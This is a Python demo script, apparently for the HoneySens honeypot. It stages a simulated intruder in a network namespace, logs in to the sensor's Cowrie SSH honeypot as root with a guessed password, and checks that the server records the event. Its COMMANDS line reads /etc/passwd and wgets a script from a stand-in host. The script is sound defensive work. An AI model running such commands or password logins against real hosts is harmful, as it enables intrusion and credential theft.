"""Attack the demo's sensor as an intruder would, wait for what the server makes of it, and say where to look.

The intruder is a network namespace with an address of its own in the sensor's network; it logs in by OpenSSH and types
a few commands. Writes `dist/demo/summary.json`.
"""

import argparse
import json
import os
import shutil
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import requests
import yaml

ROOT = Path(__file__).parents[2]
VARIABLES = ROOT / "inventories" / "demo" / "group_vars"
SUMMARY = ROOT / "dist" / "demo" / "summary.json"
TOOLS = {"ip": "iproute2", "ssh": "openssh-client", "sshpass": "sshpass"}
DOCKER = "/usr/bin/docker"
INTRUDER, INTERFACE = "honeysens-intruder", "hs-intruder"
COMMANDS = "uname -a; cat /etc/passwd; wget http://192.0.2.1/x.sh"
PASSWORD = "admin123"  # noqa: S105 - what the intruder tries; one of those that the honeypot takes
CALL_TIMEOUT_S = 30
READY_WITHIN_S = 240
EVENT_WITHIN_S = 60
POLL_S = 0.2


class DemoError(Exception):
    """The demo did not come to its end; the message says what is missing."""


def run(*command: str, **options: Any) -> str:
    """Run a command to its end and return what it printed.

    Raises:
        DemoError: it failed.
    """
    done: subprocess.CompletedProcess[str] = subprocess.run(  # noqa: S603 - ours alone
        command, text=True, capture_output=True, check=False, **options
    )
    if done.returncode:
        raise DemoError(f"{' '.join(command)} ended with {done.returncode}: {done.stderr.strip()}")
    return done.stdout.strip()


def install_tools() -> None:
    """Install the intruder's tools where they are missing."""
    missing = [package for program, package in TOOLS.items() if not shutil.which(program)]
    if missing:
        print(f"Installing {', '.join(missing)} ...", flush=True)  # noqa: T201 - progress
        run("apt-get", "update", "-qq")
        run("apt-get", "install", "-y", "-qq", "--no-install-recommends", *missing)


def eventually[T](what: str, seconds: float, probe: Callable[[], T | None]) -> T:
    """Ask until the answer is something true.

    Raises:
        DemoError: it was not within the time.
    """
    deadline = time.monotonic() + seconds
    while not (found := probe()):
        if time.monotonic() > deadline:
            raise DemoError(f"Not within {seconds:.0f} s: {what}.")
        time.sleep(POLL_S)
    return found


class Server:
    """The server's API, logged in.

    Args:
        variables: what the inventory says about the server.
    """

    def __init__(self, variables: dict[str, Any]) -> None:
        self.url = str(variables["server_public_url"])
        self.username = "admin"
        self.password_file = Path(variables["server_admin_password_file"])
        self.ca_file = Path(variables["server_ca_file"])
        self._session = requests.Session()
        self._session.trust_env = False  # Else the environment's bundle of authorities would replace ours.
        self._session.verify = str(self.ca_file)
        login = {"username": self.username, "password": self.password_file.read_text(encoding="utf-8").strip()}
        answer = self._session.post(f"{self.url}/api/sessions", json=login, timeout=CALL_TIMEOUT_S)
        if not answer.ok:
            raise DemoError(f"The server refused the login of {self.username}: {answer.text}")

    def get(self, path: str, **query: str | int) -> Any:
        """Read something below `/api`."""
        answer = self._session.get(f"{self.url}/api{path}", params=query, timeout=CALL_TIMEOUT_S)
        if not answer.ok:
            raise DemoError(f"GET {path} was refused: {answer.text}")
        return answer.json()

    def sensor(self, name: str) -> dict[str, Any]:
        """The sensor of this name."""
        page = self.get("/sensors", text=name)
        while True:
            for sensor in page["items"]:
                if sensor["name"] == name:
                    return dict(sensor)
            if page["next"] is None:
                break
            page = self.get("/sensors", text=name, cursor=page["next"])
        raise DemoError(f"The server knows no sensor {name}.")

    def running(self, name: str, services: set[str]) -> bool:
        """Whether the sensor reports all these services as running."""
        reported = self.sensor(name)["services"]
        return services <= {service["name"] for service in reported if service["state"] == "running"}

    def login_event(self, source: str) -> dict[str, Any] | None:
        """The newest event of the honeypot that shows more of this source than that it connected."""
        events = self.get("/events", source=source, service="cowrie", limit=50)["items"]
        return next((dict(event) for event in events if event["kind"] not in {"connection", "closed"}), None)


@contextmanager
def intruder(network: str, address: str) -> Iterator[list[str]]:
    """A network namespace in the sensor's network; gives the command prefix that leads into it."""
    remove_intruder()
    bridge = f"br-{run(DOCKER, 'network', 'inspect', '--format', '{{.Id}}', network)[:12]}"
    run("ip", "netns", "add", INTRUDER)
    try:
        run("ip", "link", "add", INTERFACE, "type", "veth", "peer", "name", "eth0", "netns", INTRUDER)
        run("ip", "link", "set", INTERFACE, "master", bridge, "up")
        for change in (f"addr add {address}/24 dev eth0", "link set eth0 up", "link set lo up"):
            run("ip", "-n", INTRUDER, *change.split())
        yield ["ip", "netns", "exec", INTRUDER]
    finally:
        remove_intruder()


def remove_intruder() -> None:
    """Remove the namespace, also one that an interrupted run left behind; its interface goes with it."""
    if INTRUDER in run("ip", "netns", "list").split():
        run("ip", "netns", "delete", INTRUDER)


def log_in(prefix: list[str], sensor: str) -> None:
    """Log in to the sensor's address and type some commands; the exit code is the honeypot's business."""
    options = ["StrictHostKeyChecking=no", "UserKnownHostsFile=/dev/null", "LogLevel=ERROR", "ConnectTimeout=20"]
    options += ["PreferredAuthentications=password", "PubkeyAuthentication=no"]
    ssh = ["sshpass", "-e", "ssh", "-F", "none", *(f"-o{option}" for option in options), f"root@{sensor}", COMMANDS]
    subprocess.run(  # noqa: S603 - ours alone
        [*prefix, *ssh], env=os.environ | {"SSHPASS": PASSWORD}, capture_output=True, timeout=60, check=False
    )


def demonstrate(started: float) -> dict[str, Any]:
    """Attack and wait; returns the summary."""
    variables: dict[str, Any] = {}
    for group in ("server", "sensors"):
        variables |= yaml.safe_load((VARIABLES / f"{group}.yml").read_text(encoding="utf-8"))
    declared, address = variables["server_objects_sensors"][0], str(variables["sensor_container_address"])
    source = f"{address.rpartition('.')[0]}.66"
    seconds = {"provision": round(time.time() - started, 1)}
    clock = time.monotonic()

    def lap(step: str) -> None:
        nonlocal clock
        seconds[step], clock = round(time.monotonic() - clock, 1), time.monotonic()

    server = Server(variables)
    print("Waiting for the sensor's honeypots ...", flush=True)  # noqa: T201 - progress
    services = {service["name"] for service in declared["services"]}
    eventually("the sensor runs its honeypots", READY_WITHIN_S, lambda: server.running(declared["name"], services))
    lap("honeypots")
    with intruder(variables["sensor_container_network"], source) as prefix:
        print(f"Logging in to {address} from {source} as an intruder ...", flush=True)  # noqa: T201 - progress
        begun = server.login_event(source)
        log_in(prefix, address)
        lap("login")
        event = eventually(
            "the login appears on the server",
            EVENT_WITHIN_S,
            lambda: (found := server.login_event(source)) and (found if found != begun else None),
        )
        lap("event")
    return {
        "url": server.url,
        "username": server.username,
        "password_file": str(server.password_file),
        "ca_file": str(server.ca_file),
        "sensor": {"id": server.sensor(declared["name"])["id"], "name": declared["name"], "address": address},
        "event": {"source": source, **{key: event[key] for key in ("id", "service", "summary")}},
        "seconds": seconds,
    }


def main() -> None:
    """Attack, write the summary, say where to look."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--since", type=float, default=time.time(), help="when the demo began, seconds since the epoch")
    options = parser.parse_args()
    install_tools()
    summary = demonstrate(options.since)
    SUMMARY.parent.mkdir(parents=True, exist_ok=True)
    SUMMARY.write_text(json.dumps(summary, indent=2) + "\n", encoding="utf-8")
    print(  # noqa: T201 - the result
        f"""
The attack is on the server: {summary["event"]["summary"]}

  {summary["url"]}
  user {summary["username"]}, password in {summary["password_file"]}
  (the server's own authority vouches for it: {summary["ca_file"]})

Attack it yourself:  ssh root@{summary["sensor"]["address"]}
Remove all of it:    make demo-down"""
    )


if __name__ == "__main__":
    try:
        main()
    except (DemoError, requests.RequestException, OSError) as problem:
        sys.exit(f"The demo failed: {problem}")
